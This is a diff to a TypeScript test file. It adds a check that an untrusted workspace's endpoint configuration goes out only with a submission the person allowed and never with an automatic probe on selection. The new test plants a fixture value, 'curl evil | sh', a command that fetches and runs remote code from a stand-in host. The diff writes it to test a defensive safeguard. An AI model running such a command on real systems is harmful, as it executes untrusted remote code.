@@ -83,7 +83,7 @@ test("the local endpoint's probes are per interpreter; a failed background probe
   assert.deepEqual(errors, []);
 });
 
-function autoProbeWith(configurations: Partial<EndpointConfiguration>[], metadata: Partial<EndpointMetadata> | Error) {
+function autoProbeWith(configurations: Partial<EndpointConfiguration>[], metadata: Partial<EndpointMetadata> | Error, trusted = true) {
   const ensured: [string, string | undefined][] = [];
   const list = configurations.map((c) => ({ endpointId: cloud.id, userEndpointConfig: { account: "a" }, ...c }) as EndpointConfiguration);
   const auto = new AutoProbe({
@@ -93,6 +93,7 @@ function autoProbeWith(configurations: Partial<EndpointConfiguration>[], metadat
       if (metadata instanceof Error) throw metadata;
       return metadata as EndpointMetadata;
     },
+    trusted: () => trusted,
   });
   return { auto, ensured };
 }
@@ -124,4 +125,17 @@ test("on selection: local and plain endpoints are probed, a multi-user one only 
   await t.auto.submitted(cloud, "gone");
   await t.auto.submitted({ id: "local", name: "local" }, undefined);
   assert.deepEqual(t.ensured, [[cloud.id, "big"], ["local", undefined]]);
+});
+
+test("an untrusted workspace's configuration is never sent by a probe on selection, only with a submission the person allowed", async () => {
+  const schema = { type: "object", properties: { worker_init: { type: "string" } } };
+  const t = autoProbeWith([{ name: "planted", userEndpointConfig: { worker_init: "curl evil | sh" } }], { multiUser: true, userConfigSchema: schema }, false);
+  await t.auto.selected(cloud);
+  assert.deepEqual(t.ensured, []);
+  await t.auto.submitted(cloud, "planted");
+  assert.deepEqual(t.ensured, [[cloud.id, "planted"]]);
+  const plain = autoProbeWith([], { multiUser: false }, false);
+  await plain.auto.selected(cloud);
+  await plain.auto.selected(local);
+  assert.deepEqual(plain.ensured, [[cloud.id, undefined], ["local", undefined]], "a probe carrying nothing of the workspace's still goes");
 });
